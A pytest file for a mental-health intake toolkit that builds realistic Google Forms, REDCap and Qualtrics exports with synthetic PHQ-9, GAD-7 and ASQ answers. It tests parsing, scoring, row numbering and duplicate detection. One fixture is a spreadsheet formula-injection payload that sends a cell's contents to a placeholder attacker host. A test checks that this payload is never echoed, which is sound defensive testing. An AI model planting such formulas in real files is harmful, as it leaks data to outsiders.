"""Real-shaped exports of each format, written here, read end to end.

The writers below make the files a practice would download: a Google Forms
response sheet (Timestamp, question text with grid brackets, answer labels), a
REDCap raw record export (record_id, events, a repeating instrument, raw
codes, ``*_complete``), a Qualtrics export (three header rows, codes from 1,
recoded by the mapping) and our own CSV.  Each carries a byte-order mark, a
quoted line break, blank rows, a duplicated client id on the same date (and the
same id on another date, which is history, not a duplicate) and a free-text
answer that looks like a spreadsheet formula.  The intakes read from each must
score exactly like the same answers written as YAML intakes.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from toolkit.api import score_intake
from toolkit.content.catalog import Catalog
from toolkit.exports.formats import detect_format
from toolkit.exports.mapping import load_mapping
from toolkit.exports.rows import RowError, RowOk, count_rows, iter_export
from toolkit.intake.read import read_intakes

CATALOG = Catalog()
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
PHQ9_STEM = "Over the last 2 weeks, how often have you been bothered by any of the following problems?"
GAD7_STEM = "Over the last 2 weeks, how often have you been bothered by the following problems?"

# (client id, name, date, birth date, phq9 q1-q9, gad7 q1-q7, asq q1-q5)
CLIENTS = [
    ("C-0001", "Ana López", "2026-11-20", "1990-04-02", [1, 2, 1, 2, 0, 1, 1, 0, 0], [1, 1, 2, 1, 0, 1, 0],
     ["no", "no", "no", "no", None]),
    ("C-0002", "Ben Okafor", "2026-11-20", "1985-12-30", [3, 3, 2, 3, 2, 2, 1, 1, 1], [2, 2, 3, 2, 1, 2, 2],
     ["yes", "no", "no", "no", "no"]),
    ("C-0003", "Chloé \"Coco\" Martin", "2026-11-20", "2001-07-15", [0, 0, 0, 1, 0, 0, 0, 0, 0],
     [0, 0, 1, 0, 0, 0, 0], ["no", "no", "no", "no", None]),
    ("C-0001", "Ana López", "2026-11-27", "1990-04-02", [1, 1, 1, 1, 0, 0, 1, 0, 0], [1, 0, 1, 1, 0, 0, 0],
     ["no", "no", "no", "no", None]),  # same client, a week later: history
]
DUPLICATE = ("C-0002", "Ben Okafor", "2026-11-20", "1985-12-30", [0] * 9, [0] * 7, ["no"] * 4 + [None])

FREQ = ["Not at all", "Several days", "More than half the days", "Nearly every day"]
ASQ_LABEL = {"yes": "Yes", "no": "No", "declined": "Declined to answer", None: ""}
ASQ_CODE = {"yes": "1", "no": "2", "declined": "3", None: ""}


def _texts(sid: str) -> list[str]:
    return [it.text for it in CATALOG.get(sid).items]


PHQ9 = _texts("phq9")[:9]
GAD7 = _texts("gad7")[:7]
ASQ = _texts("asq")


def _write(path: Path, rows: list[list[str]], *, blank_after: tuple[int, ...] = ()) -> Path:
    """CSV with a BOM and CRLF, as spreadsheet programs write it; blank rows after the given rows."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    for i, row in enumerate(rows):
        writer.writerow(row)
        if i in blank_after:
            buf.write("," * (len(row) - 1) + "\r\n")
            buf.write("\r\n")
    path.write_bytes(b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8"))
    return path


def _note(i: int) -> str:
    return FORMULA if i == 1 else ("Line one\nline two, with a comma" if i == 0 else "")


def write_google_forms(path: Path, clients=CLIENTS, duplicate=True) -> Path:
    header = (["Timestamp", "Client ID", "Full name", "Date of birth"]
              + [f"{PHQ9_STEM} [{t}]" for t in PHQ9]
              + [f"{GAD7_STEM} [{t}]" for t in GAD7]
              + ASQ + ["Anything else you would like us to know?", "How did you hear about us?"])
    rows = [header]
    people = list(clients) + ([DUPLICATE] if duplicate else [])
    for i, (cid, name, date, dob, phq, gad, asq) in enumerate(people):
        y, m, d = date.split("-")
        stamp = f"{y}/{m}/{d} {9 + i % 3}:{i % 60:02d}:03 AM GMT"
        by, bm, bd = dob.split("-")
        rows.append([stamp, cid, name, f"{bm}/{bd}/{by}"] + [FREQ[v] for v in phq] + [FREQ[v] for v in gad]
                    + [ASQ_LABEL[a] for a in asq] + [_note(i), "A friend"])
    return _write(path, rows, blank_after=(2,))


GOOGLE_MAPPING = """\
format: google-forms
client: {id: Client ID, name: Full name, date_of_birth: Date of birth, date_of_birth_format: MM/DD/YYYY}
date: {column: Timestamp, format: YYYY/MM/DD}
columns:
""" + "".join(f'  "{PHQ9_STEM} [{t}]": phq9.q{i}\n' for i, t in enumerate(PHQ9, 1)) \
    + "".join(f'  "{GAD7_STEM} [{t}]": gad7.q{i}\n' for i, t in enumerate(GAD7, 1)) \
    + "".join(f'  {json.dumps(t)}: asq.q{i}\n' for i, t in enumerate(ASQ, 1))


def write_redcap(path: Path, clients=CLIENTS, duplicate=True) -> Path:
    header = (["record_id", "redcap_event_name", "redcap_repeat_instrument", "redcap_repeat_instance",
               "intake_date", "dob"] + [f"phq9_{i}" for i in range(1, 10)] + ["phq9_complete"]
              + [f"gad7_{i}" for i in range(1, 8)] + ["gad7_complete"]
              + [f"asq_{i}" for i in range(1, 6)] + ["notes", "medication_name", "medications_complete"])
    width = len(header)
    rows = [header]
    people = list(clients) + ([DUPLICATE] if duplicate else [])
    for i, (cid, _name, date, dob, phq, gad, asq) in enumerate(people):
        event = "intake_arm_1" if i < 3 or i == len(people) - 1 else "week_1_arm_1"
        rows.append([cid, event, "", "", date, dob] + [str(v) for v in phq] + ["2"] + [str(v) for v in gad]
                    + ["2"] + [ASQ_CODE[a] for a in asq] + [_note(i), "", ""])
        if i == 0:  # a repeating instrument row this mapping does not read: skipped, not an error
            rows.append([cid, event, "medications", "1"] + [""] * (width - 6) + ["sertraline", "2"])
            # and an event without the intake instruments (longitudinal projects): skipped too
            rows.append([cid, "week_4_arm_1", "", ""] + [""] * (width - 4))
    return _write(path, rows, blank_after=(1,))


REDCAP_MAPPING = """\
format: redcap
client: {id: record_id, date_of_birth: dob}
date: {column: intake_date, format: YYYY-MM-DD}
columns:
""" + "".join(f"  phq9_{i}: phq9.q{i}\n" for i in range(1, 10)) \
    + "".join(f"  gad7_{i}: gad7.q{i}\n" for i in range(1, 8)) \
    + "".join(f"  asq_{i}: asq.q{i}\n" for i in range(1, 6)) \
    + """recode:
  scales:
    asq.yes_no_declined: {1: "yes", 2: "no", 3: declined}
"""

QUALTRICS_META = ["StartDate", "EndDate", "Status", "IPAddress", "Progress", "Duration (in seconds)",
                  "Finished", "RecordedDate", "ResponseId", "RecipientLastName", "RecipientFirstName",
                  "RecipientEmail", "ExternalReference", "LocationLatitude", "LocationLongitude",
                  "DistributionChannel", "UserLanguage"]


def write_qualtrics(path: Path, clients=CLIENTS, duplicate=True) -> Path:
    ids = (QUALTRICS_META + ["Q1", "Q2"] + [f"QID3_{i}" for i in range(1, 10)]
           + [f"QID4_{i}" for i in range(1, 8)] + [f"QID5_{i}" for i in range(1, 6)] + ["Q6"])
    questions = (QUALTRICS_META[:5] + ["Duration (in seconds)"] + QUALTRICS_META[6:]
                 + ["Client ID", "What is your name?"]
                 + [f"{PHQ9_STEM} - {t}" for t in PHQ9] + [f"{GAD7_STEM} - {t}" for t in GAD7]
                 + [f"Ask Suicide-Screening Questions - {t}" for t in ASQ]
                 + ["Anything else you would\nlike us to know?"])
    imports = [json.dumps({"ImportId": i if i.startswith("Q") else i.lower()}, separators=(",", ":"))
               for i in ids]
    rows = [ids, questions, imports]
    people = list(clients) + ([DUPLICATE] if duplicate else [])
    for i, (cid, name, date, _dob, phq, gad, asq) in enumerate(people):
        stamp = f"{date} 09:{10 + i % 50}:00"
        meta = [stamp, stamp, "IP Address", "192.0.2.1", "100", "300", "True", stamp, f"R_{i:015d}",
                "", "", "", "", "", "", "anonymous", "EN"]
        rows.append(meta + [cid, name] + [str(v + 1) for v in phq] + [str(v + 1) for v in gad]
                    + [ASQ_CODE[a] for a in asq] + [_note(i)])
    return _write(path, rows, blank_after=(4,))


QUALTRICS_MAPPING = """\
format: qualtrics
client: {id: Q1, name: Q2}
date: {column: RecordedDate, format: YYYY-MM-DD}
columns:
""" + "".join(f"  QID3_{i}: phq9.q{i}\n" for i in range(1, 10)) \
    + "".join(f"  QID4_{i}: gad7.q{i}\n" for i in range(1, 8)) \
    + "".join(f"  QID5_{i}: asq.q{i}\n" for i in range(1, 6)) \
    + """recode:
  scales:
    phq9.frequency: {1: 0, 2: 1, 3: 2, 4: 3}
    gad7.frequency: {1: 0, 2: 1, 3: 2, 4: 3}
  columns:
    QID5_1: {1: "yes", 2: "no", 3: declined}
    QID5_2: {1: "yes", 2: "no", 3: declined}
    QID5_3: {1: "yes", 2: "no", 3: declined}
    QID5_4: {1: "yes", 2: "no", 3: declined}
    QID5_5: {1: "yes", 2: "no", 3: declined}
"""


def write_toolkit(path: Path, clients=CLIENTS, duplicate=True) -> Path:
    header = (["client_id", "client_name", "client_date_of_birth", "date"]
              + [f"phq9.q{i}" for i in range(1, 10)] + [f"gad7.q{i}" for i in range(1, 8)]
              + [f"asq.q{i}" for i in range(1, 6)])
    rows = [header]
    people = list(clients) + ([DUPLICATE] if duplicate else [])
    for cid, name, date, dob, phq, gad, asq in people:
        rows.append([cid, name, dob, date] + [str(v) for v in phq] + [str(v) for v in gad]
                    + [a or "" for a in asq])
    return _write(path, rows, blank_after=(1,))


WRITERS = {
    "google-forms": (write_google_forms, GOOGLE_MAPPING),
    "redcap": (write_redcap, REDCAP_MAPPING),
    "qualtrics": (write_qualtrics, QUALTRICS_MAPPING),
    "toolkit": (write_toolkit, None),
}


def make(fmt: str, folder: Path, **kwargs) -> tuple[Path, Path | None]:
    write, mapping = WRITERS[fmt]
    export = write(folder / f"{fmt}-export.csv", **kwargs)
    mapping_path = None
    if mapping is not None:
        mapping_path = folder / f"{fmt}-mapping.yaml"
        mapping_path.write_text(mapping, encoding="utf-8")
    return export, mapping_path


def yaml_scores(folder: Path, client) -> dict:
    """The same answers as a YAML intake, scored the ordinary way."""
    cid, name, date, dob, phq, gad, asq = client
    answers = {"phq9": {f"q{i}": v for i, v in enumerate(phq, 1)},
               "gad7": {f"q{i}": v for i, v in enumerate(gad, 1)},
               "asq": {f"q{i}": a for i, a in enumerate(asq, 1) if a is not None}}
    path = folder / f"{cid}-{date}.json"
    path.write_text(json.dumps({"client": {"id": cid, "name": name, "date_of_birth": dob},
                                "date": date, "answers": answers}), encoding="utf-8")
    [intake] = read_intakes(path, CATALOG)
    return score_intake(intake, catalog=CATALOG).to_dict()


@pytest.mark.parametrize("fmt", sorted(WRITERS))
def test_detect_format(fmt: str, tmp_path: Path):
    export, _ = make(fmt, tmp_path)
    assert detect_format(export) == fmt


@pytest.mark.parametrize("fmt", sorted(WRITERS))
def test_each_format_end_to_end(fmt: str, tmp_path: Path):
    export, mapping = make(fmt, tmp_path)
    rows = list(iter_export(export, CATALOG, mapping=mapping))
    ok = [r for r in rows if isinstance(r, RowOk)]
    errors = [r for r in rows if isinstance(r, RowError)]
    assert len(ok) == len(CLIENTS)
    for entry, client in zip(ok, CLIENTS):
        got = score_intake(entry.intake, catalog=CATALOG).to_dict()
        assert got == yaml_scores(tmp_path, client)
        assert entry.intake.client.id == client[0]
        assert entry.intake.date.isoformat() == client[2]
    if fmt != "qualtrics":  # Qualtrics has no birth-date column here
        assert ok[0].intake.client.date_of_birth.isoformat() == CLIENTS[0][3]
    if fmt != "redcap":
        assert ok[2].intake.client.name == CLIENTS[2][1]  # a quote inside a quoted cell
    # the duplicated client id on the same date: the later row is refused, naming the first
    [dup] = errors
    assert dup.row == rows[-1].row
    first_row = ok[1].row
    assert [p.message for p in dup.problems] == [f"same client id and date as row {first_row}"]
    assert "C-0002" not in str(dup.problems)


@pytest.mark.parametrize("fmt", sorted(WRITERS))
def test_row_numbers_are_spreadsheet_rows(fmt: str, tmp_path: Path):
    """Header rows, a quoted line break and blank rows all count as the spreadsheet counts them."""
    export, mapping = make(fmt, tmp_path)
    rows = list(iter_export(export, CATALOG, mapping=mapping))
    header_rows = 3 if fmt == "qualtrics" else 1
    text = export.read_text(encoding="utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))
    expected = [i for i, rec in enumerate(records, start=1)
                if i > header_rows and any(c.strip() for c in rec)
                and not (fmt == "redcap" and (rec[2] == "medications" or rec[1] == "week_4_arm_1"))]
    assert [r.row for r in rows] == expected
    assert count_rows(export, header_rows=header_rows) == len(expected) + 2 * (fmt == "redcap")


def test_qualtrics_recode_is_applied(tmp_path: Path):
    export, mapping = make("qualtrics", tmp_path)
    first = next(iter(iter_export(export, CATALOG, mapping=mapping)))
    assert first.intake.answers["phq9"]["q2"] == 2  # written as code 3
    assert first.intake.answers["asq"]["q1"] == "no"  # written as code 2


def test_mapping_object_or_path(tmp_path: Path):
    export, mapping = make("redcap", tmp_path)
    loaded = load_mapping(mapping, CATALOG)
    by_path = [r.row for r in iter_export(export, CATALOG, mapping=mapping)]
    by_object = [r.row for r in iter_export(export, CATALOG, mapping=loaded)]
    assert by_path == by_object


def test_formula_free_text_is_never_read_or_echoed(tmp_path: Path):
    for fmt in WRITERS:
        export, mapping = make(fmt, tmp_path)
        for entry in iter_export(export, CATALOG, mapping=mapping):
            assert "HYPERLINK" not in repr(entry)
